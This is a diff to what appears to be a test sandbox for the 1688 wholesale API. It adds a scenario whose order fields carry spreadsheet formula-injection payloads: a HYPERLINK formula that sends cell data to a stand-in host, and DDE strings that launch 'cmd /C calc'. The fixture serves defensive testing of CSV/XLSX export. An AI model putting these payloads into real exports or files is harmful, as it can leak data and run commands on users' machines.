@@ -38,6 +38,7 @@ Conventions (also in the README, "The sandbox gateway"):
   | 957 | HTTP 400 `gw.QosAppFrequencyLimit` (1688's rate limit) |
   | 958 | a refusal whose `errorMsg` echoes the request, credentials and all (a careless proxy) |
   | 959 | a promotion whose `desc` carries a script, an event handler and a link (hostile HTML) |
+  | 960 | formulas: the line's `specId`, `message` and a promotion `text` start `=`, `@`, `+` |
 
 * **Strict checks**: every `addressParam` field present and non-empty, quantity at least
   1, at most 50 lines, one seller, a known flow (empty = the sandbox picks `general`),
@@ -71,6 +72,10 @@ FLOWS = {
     "boutiquepifa",
 }
 EXAMPLE_OFFER = 670291644950
+# Scenario 960: texts a spreadsheet would run as formulas (CSV/XLSX injection).
+FORMULA_SPEC = '=HYPERLINK("http://x.test/?"&A1,"1688")'
+FORMULA_MESSAGE = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_PROMOTION = "+cmd|' /C calc'!A0"
 EXAMPLE_SPEC = "594b40c111b019af610a0078e4316373"
 SHOP_THRESHOLD_FEN = 30000
 SHOP_DISCOUNT_FEN = 2000
@@ -371,6 +376,17 @@ class Sandbox:
                         "discountFee": 0,
                     }
                 )
+            if scenario_of(offer_id) == 960:
+                promotions.append(
+                    {
+                        "promotionId": f"formula-{offer_id}",
+                        "selected": False,
+                        "text": FORMULA_PROMOTION,
+                        "desc": "",
+                        "freePostage": False,
+                        "discountFee": 0,
+                    }
+                )
             if has_plus_promotion(offer_id):
                 discount = 69 * quantity if offer_id == EXAMPLE_OFFER else (gross * 5 + 50) // 100
                 promotions.append(
@@ -399,6 +415,8 @@ class Sandbox:
                 + "==",
             }
             scenario = scenario_of(offer_id)
+            if scenario == 960:
+                line["specId"], line["message"] = FORMULA_SPEC, FORMULA_MESSAGE
             if scenario == 904:
                 line["resultCode"] = "500_004"
                 line["message"] = (
